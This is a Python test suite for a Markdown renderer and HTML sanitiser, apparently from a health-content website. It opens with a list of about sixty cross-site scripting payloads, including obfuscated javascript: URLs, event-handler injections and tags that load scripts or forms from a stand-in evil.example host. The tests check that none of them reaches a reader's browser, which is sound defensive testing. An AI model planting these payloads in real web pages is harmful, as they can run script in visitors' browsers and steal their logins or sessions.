"""The one Markdown renderer: what a reader's browser receives from a written body."""

import re
from typing import Any
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup

from practice.core.markdown import ALLOWED_TAGS, markdown_render, sanitise_html

# Each payload is something a pasted post, an imported blog or a careless edit could carry.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<IMG SRC="javascript:alert(1);">',
    "<img src=`javascript:alert(1)`>",
    '<img src="x" ONERROR="alert(1)">',
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<details open ontoggle=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![pic](javascript:alert(1))",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">c</a>',
    '<a href="java\nscript:alert(1)">click</a>',
    '<a href="java&#0000009;script:alert(1)">click</a>',
    '<a href=" &#14; javascript:alert(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<a href="https://example.com" onclick="alert(1)">click</a>',
    '<a href="https://example.com" target="_blank">click</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">cover</span>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<input autofocus onfocus="alert(1)">',
    '<textarea onfocus="alert(1)" autofocus>x</textarea>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror="alert(1)">',
    '<marquee onstart="alert(1)">x</marquee>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<div id="x" class="danger" data-x="1">attrs</div>',
    "```\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
]

ALLOWED_SCHEMES = {"", "http", "https", "mailto", "tel"}


def _dangers(html: str) -> list[str]:
    """What in ``html`` could run, restyle or send the reader elsewhere unasked."""
    found = []
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        if element.name not in ALLOWED_TAGS:
            found.append(f"tag <{element.name}>")
        for name, value in element.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if name.lower().startswith("on") or name.lower() in {"style", "srcdoc", "target"}:
                found.append(f"{name}= on <{element.name}>")
            if name in {"href", "src", "action", "formaction", "background", "xlink:href"}:
                # As a browser reads a URL: tabs and newlines anywhere and leading control
                # characters or spaces are ignored (WHATWG URL standard).
                url = re.sub(r"[\t\n\r]", "", text).lstrip("".join(map(chr, range(33))))
                if urlsplit(url).scheme.lower() not in ALLOWED_SCHEMES:
                    found.append(f"{name}={text!r}")
    return found


def _soup(html: str) -> Any:
    return BeautifulSoup(html, "html.parser")


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_nothing_executable_reaches_the_reader(payload: str) -> None:
    html = markdown_render(f"Before.\n\n{payload}\n\nAfter.")
    assert _dangers(html) == [], html
    assert "<script" not in html.lower()


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_imported_html_gets_the_same_rules(payload: str) -> None:
    html = sanitise_html(f"<p>Before.</p>{payload}<p>After.</p>")
    assert _dangers(html) == [], html


def test_the_sanitiser_checks_would_catch_a_leak() -> None:
    # The checker above must itself see danger, or every test using it proves nothing.
    assert _dangers('<img src="x" onerror="alert(1)">')
    assert _dangers('<a href="javascript:alert(1)">x</a>')
    assert _dangers('<a href="data:text/html,x">x</a>')
    assert _dangers('<a href=" java\tscript:alert(1)">x</a>')
    assert _dangers('<p style="color:red">x</p>')
    assert _dangers("<iframe></iframe>")


def test_code_shows_the_markup_as_text() -> None:
    html = markdown_render("```\n<script>alert(1)</script>\n```")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_script_and_style_contents_are_dropped_not_shown() -> None:
    html = markdown_render("<script>alert('hi')</script><style>p{}</style>Text")
    assert "alert" not in html
    assert "p{}" not in html
    assert "Text" in html


def test_writing_keeps_its_structure() -> None:
    html = markdown_render(
        "# Weak glutes\n\n"
        "Your **gluteus medius** steadies the pelvis.\n\n"
        "- Bridges\n- Clamshells\n\n"
        "1. Lie on your back\n2. Lift\n\n"
        "> Stop if it hurts.\n\n"
        "| Exercise | Sets |\n|:--|--:|\n| Bridge | 3 |\n\n"
        "See [the guide](/guide/) and [NOF](https://www.bonehealthandosteoporosis.org/).\n\n"
        '![A woman doing a bridge](/media/bridge.jpg "Bridge")\n\n'
        "Studies agree.[^1]\n\n[^1]: Source, 2021.\n"
    )
    soup = _soup(html)
    assert soup.find("h1") is None
    assert soup.find("h2").get_text() == "Weak glutes"
    assert soup.find("strong").get_text() == "gluteus medius"
    assert [li.get_text() for li in soup.find("ul").find_all("li")] == ["Bridges", "Clamshells"]
    assert soup.find("blockquote") is not None
    assert [th.get("align") for th in soup.find_all("th")] == ["left", "right"]
    image = soup.find("img")
    assert image["src"] == "/media/bridge.jpg"
    assert image["alt"] == "A woman doing a bridge"
    links = {a.get_text(): a for a in soup.find_all("a")}
    assert links["the guide"]["href"] == "/guide/"
    assert links["NOF"]["href"] == "https://www.bonehealthandosteoporosis.org/"
    assert links["NOF"]["rel"] == ["noopener", "noreferrer"]
    assert soup.find("sup", id="fnref:1").find("a")["href"] == "#fn:1"
    assert soup.find("li", id="fn:1") is not None


def test_mail_and_phone_links_work() -> None:
    soup = _soup(
        markdown_render("[Call](tel:+15551234567) or [write](mailto:hello@example.com)"),
    )
    assert [a["href"] for a in soup.find_all("a")] == [
        "tel:+15551234567",
        "mailto:hello@example.com",
    ]


def test_curly_quotes_and_symbols_survive() -> None:
    text = "\u201cStrong Bones\u2122\u201d \u2013 it\u2019s 50% off\u2026"
    html = markdown_render(f"{text} & more")
    assert text in html
    assert "&amp; more" in html


def test_base_url_makes_links_and_images_absolute_for_feeds_and_email() -> None:
    soup = _soup(
        markdown_render(
            "[next](/articles/next/) ![hip](/media/hip.jpg) [out](https://other.example/a)",
            base_url="https://strongbones.example",
        )
    )
    assert soup.find("a")["href"] == "https://strongbones.example/articles/next/"
    assert soup.find("img")["src"] == "https://strongbones.example/media/hip.jpg"
    assert soup.find_all("a")[1]["href"] == "https://other.example/a"


def test_blank_text_renders_nothing() -> None:
    assert markdown_render("") == ""
    assert markdown_render("  \n\n ") == ""
